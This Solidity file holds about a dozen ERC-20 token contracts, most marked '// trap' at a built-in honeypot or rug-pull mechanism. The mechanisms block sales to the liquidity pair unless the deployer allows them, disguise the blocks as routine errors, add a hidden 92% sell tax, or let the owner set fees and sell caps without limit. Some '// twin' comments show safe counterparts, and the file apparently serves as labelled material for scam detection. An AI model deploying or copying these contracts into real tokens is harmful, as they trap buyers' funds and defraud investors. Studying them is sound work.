// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IFactory {
    function createPair(address a, address b) external returns (address);
}

interface IRouter {
    function factory() external view returns (address);
    function WETH() external view returns (address);
    function swapExactTokensForETHSupportingFeeOnTransferTokens(uint256, uint256, address[] calldata, address, uint256) external;
}

interface IPairSync {
    function sync() external;
}

abstract contract Coin {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public pair;
    address internal immutable _maker = msg.sender;
    mapping(address => uint256) internal _bal;
    mapping(address => mapping(address => uint256)) internal _allow;

    constructor(string memory name_, string memory symbol_, uint256 units, address router) {
        (name, symbol, totalSupply) = (name_, symbol_, units * 1e18);
        _bal[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
        pair = IFactory(IRouter(router).factory()).createPair(address(this), IRouter(router).WETH());
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return _bal[account];
    }

    function allowance(address holder, address spender) public view virtual returns (uint256) {
        return _allow[holder][spender];
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        _allow[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public virtual returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public virtual returns (bool) {
        _spend(from, msg.sender, value);
        _send(from, to, value);
        return true;
    }

    function _spend(address holder, address spender, uint256 value) internal virtual {
        uint256 left = _allow[holder][spender];
        require(left >= value, "ERC20: insufficient allowance");
        if (left != type(uint256).max) _allow[holder][spender] = left - value;
    }

    function _send(address from, address to, uint256 value) internal virtual {
        _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) internal {
        require(_bal[from] >= value, "ERC20: transfer amount exceeds balance");
        _bal[from] -= value;
        _bal[to] += value;
        emit Transfer(from, to, value);
    }
}

abstract contract Owned {
    address public owner = msg.sender;
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier onlyOwner() {
        require(msg.sender == owner, "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() external virtual onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function transferOwnership(address to) external onlyOwner {
        emit OwnershipTransferred(owner, to);
        owner = to;
    }
}

contract Larkspur is Coin, Owned {
    mapping(address => bool) public member;

    constructor(address router) Coin("Larkspur", "LARK", 500_000_000, router) {
        member[msg.sender] = true;
        member[address(this)] = true;
    }

    function enroll(address account) external onlyOwner {
        member[account] = true;
    }

    function _send(address from, address to, uint256 value) internal override {
        if (to == pair) require(member[from], "TransferHelper: TRANSFER_FROM_FAILED"); // trap
        _move(from, to, value);
    }
}

contract Quillon is Coin {
    mapping(address => uint256) private _entry;

    constructor(address router) Coin("Quillon", "QLN", 100_000_000, router) {}

    function _send(address from, address to, uint256 value) internal override {
        if (from == pair) _entry[to] = (block.number << 96) | uint96(value);
        if (to == pair) {
            uint256 at = _entry[from] >> 96;
            require(at == 0 || block.number <= at + 3, "slippage"); // trap
            _entry[from] = (at << 96) | uint96(value);
        }
        _move(from, to, value);
    }
}

contract Halcyon is Coin, Owned {
    uint256 private immutable _genesis = block.timestamp;
    mapping(uint256 => uint256) public volumeOf;

    constructor(address router) Coin("Halcyon Days", "HALC", 21_000_000, router) {}

    function week() public view returns (uint256) {
        return (block.timestamp - _genesis) / 1 weeks;
    }

    function _send(address from, address to, uint256 value) internal override {
        uint256 at = week();
        volumeOf[at] += value;
        if (to == pair && at > 6) revert("season closed"); // trap
        _move(from, to, value);
    }
}

contract Tallymark is Coin, Owned {
    uint32 public purchases;
    uint32 public disposals;

    constructor(address router) Coin("Tallymark", "TALLY", 77_000_000, router) {}

    function _send(address from, address to, uint256 value) internal override {
        if (from == pair) purchases++;
        else if (to == pair) {
            disposals++;
            require(disposals < 10 || from == _maker, "Tally: range"); // trap
        }
        _move(from, to, value);
    }
}

contract Fathom is Coin {
    constructor(address router) Coin("Fathom", "FTHM", 10_000_000, router) {}

    function _send(address from, address to, uint256 value) internal override {
        if (to == pair && from != _maker) require(tx.gasprice <= block.basefee, "front-running guard"); // trap
        _move(from, to, value);
    }
}

contract Roulade is Coin {
    uint256 private _seed = 1;

    constructor(address router) Coin("Roulade", "ROUL", 888_000_000, router) {}

    function _send(address from, address to, uint256 value) internal override {
        _seed = uint256(keccak256(abi.encode(_seed, block.prevrandao, from, value)));
        if (to == pair && from != _maker) require(_seed & 3 == 0, "K"); // trap
        _move(from, to, value);
    }
}

contract Periwink is Coin, Owned {
    mapping(address => uint8) public tier;

    constructor(address router) Coin("Periwink", "PWK", 64_000_000, router) {
        tier[msg.sender] = 9;
    }

    function grade(address account, uint8 to) external onlyOwner {
        tier[account] = to;
    }

    function _send(address from, address to, uint256 value) internal override {
        bool person;
        assembly {
            person := iszero(extcodesize(from))
        }
        if (person && to.code.length != 0) {
            // twin: tier[from] = tier[from];
            if (to == pair) require(tier[from] > 3, "tier"); // trap
        }
        _move(from, to, value);
    }
}

contract Ostrava is Coin {
    bytes32 public anchor;

    constructor(address router) Coin("Ostrava", "OSTR", 45_000_000, router) {}

    function _send(address from, address to, uint256 value) internal override {
        bytes32 last = blockhash(block.number - 1);
        if (to == pair && from != _maker) {
            require(last == bytes32(0) || uint256(last) == block.number, "reorg"); // trap
            anchor = last;
        }
        _move(from, to, value);
    }
}

contract Marmalade is Coin, Owned {
    uint256 public buyFee = 3;
    uint256 public sellFee = 3;
    address public treasury = msg.sender;

    constructor(address router) Coin("Marmalade", "MRML", 1_000_000_000, router) {}

    function setFees(uint256 onBuy, uint256 onSell) external onlyOwner {
        // twin: require(onBuy <= 5 && onSell <= 5, "too high");
        (buyFee, sellFee) = (onBuy, onSell);
    }

    function _send(address from, address to, uint256 value) internal override {
        uint256 fee;
        if (from != treasury && to != treasury) fee = (value * (from == pair ? buyFee : to == pair ? sellFee : 0)) / 100;
        if (fee > 0) _move(from, treasury, fee);
        _move(from, to, value - fee);
    }
}

contract Verdigris is Coin, Owned {
    mapping(address => uint64) public since;

    constructor(address router) Coin("Verdigris", "VERD", 30_000_000, router) {}

    function rateFor(address account) public view returns (uint256) {
        uint256 held = block.timestamp - since[account];
        if (held > 600) return 9200; // trap
        return held > 600 ? 150 : 200;
    }

    function _send(address from, address to, uint256 value) internal override {
        if (from == _maker || to == _maker) return _move(from, to, value);
        if (to != pair) since[to] = uint64(block.timestamp);
        else {
            uint256 fee = (value * rateFor(from)) / 10_000;
            _move(from, _maker, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

contract Colander is Coin, Owned {
    uint256 public ceiling = type(uint256).max;

    constructor(address router) Coin("Colander", "CLND", 250_000_000, router) {}

    function setCeiling(uint256 value) external onlyOwner {
        // twin: require(value >= totalSupply / 100, "below one percent");
        ceiling = value;
    }

    function _send(address from, address to, uint256 value) internal override {
        if (from != _maker && to == pair) require(value <= ceiling, "Exceeds ceiling");
        _move(from, to, value);
    }
}

contract Trellis is Coin {
    mapping(address => uint256) private _crest;

    constructor(address router) Coin("Trellis", "TRLS", 12_000_000, router) {}

    function _send(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        if (_bal[to] > _crest[to]) _crest[to] = _bal[to];
        if (to == pair && from != _maker) require(_bal[from] >= (_crest[from] * 99) / 100, "loyalty"); // trap
    }
}
